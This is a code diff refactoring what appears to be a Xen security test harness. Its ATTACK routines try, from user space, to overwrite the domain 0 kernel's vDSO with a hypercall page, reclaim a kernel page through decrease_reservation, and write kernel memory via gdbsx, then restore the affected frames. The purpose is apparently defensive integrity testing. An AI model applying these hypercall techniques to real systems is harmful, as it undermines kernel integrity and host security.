@@ -45,7 +45,6 @@ void copy_frame(uint64_t to, uint64_t from)
  */
 ATTACK("U-HCALLPAGE", "write a hypercall page over a kernel frame")
 {
-    struct xen_domctl init = { .cmd = XEN_DOMCTL_hypercall_init, .domain = 0 };
     const uint8_t *page = vdso_page();
     uint8_t *before = buffer(PAGE_SIZE);
     uint64_t frame = 0;
@@ -59,14 +58,13 @@ ATTACK("U-HCALLPAGE", "write a hypercall page over a kernel frame")
     if ( !frame )
         return cannot_try("no frame for the kernel's page");
 
-    init.u.hypercall_init.gmfn = frame;
-    domctl(&init);
+    DOMCTL(hypercall_init, 0, .u.hypercall_init.gmfn = frame);
     changed = memcmp(before, page, PAGE_SIZE);
     if ( changed )
         copy_frame(frame, own_frame(before));
 
-    return effect(changed, "the kernel's vDSO %s",
-                  changed ? "overwritten with hypercalls" : "unchanged");
+    return effect_either(changed, "the kernel's vDSO",
+                         "overwritten with hypercalls", "unchanged");
 }
 
 /*
@@ -97,19 +95,17 @@ ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen")
     set_xen_guest_handle(reservation->extent_start, frames);
     reservation->nr_extents = 1;
     reservation->domid = DOMID_SELF;
-    hypercall2(__HYPERVISOR_memory_op, XENMEM_decrease_reservation,
-               reservation);
+    memory_op(XENMEM_decrease_reservation, reservation);
 
     gone = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
     if ( gone )
     {
-        hypercall2(__HYPERVISOR_memory_op, XENMEM_populate_physmap,
-                   reservation);
+        memory_op(XENMEM_populate_physmap, reservation);
         copy_frame(*frames, own_frame(before));
     }
 
-    return effect(gone, "the kernel's vDSO %s",
-                  gone ? "lost its memory" : "unchanged");
+    return effect_either(gone, "the kernel's vDSO", "lost its memory",
+                         "unchanged");
 }
 
 /*
@@ -120,23 +116,21 @@ ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen")
  */
 ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
 {
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_gdbsx_guestmemio, .domain = 0 };
     char *bytes = buffer(PAGE_SIZE);
     long result;
     bool written;
 
     memcpy(bytes, new_mark(), MARK_SIZE);
-    op.u.gdbsx_guest_memio.gva = victim();
-    op.u.gdbsx_guest_memio.uva = (uintptr_t)bytes;
-    op.u.gdbsx_guest_memio.len = MARK_SIZE;
-    op.u.gdbsx_guest_memio.gwr = 1;
-    result = domctl(&op);
+    result = DOMCTL(gdbsx_guestmemio, 0, .u.gdbsx_guest_memio.gva = victim(),
+                    .u.gdbsx_guest_memio.uva = (uintptr_t)bytes,
+                    .u.gdbsx_guest_memio.len = MARK_SIZE,
+                    .u.gdbsx_guest_memio.gwr = 1);
     written = victim_has_mark();
 
     if ( !written && (result == -ENOSYS || result == -EOPNOTSUPP) )
         return not_applicable("this Xen is built without gdbsx");
-    return effect(written, "the kernel's version %s",
-                  written ? "rewritten" : "unchanged");
+    return effect_either(written, "the kernel's version", "rewritten",
+                         "unchanged");
 }
 
 /*
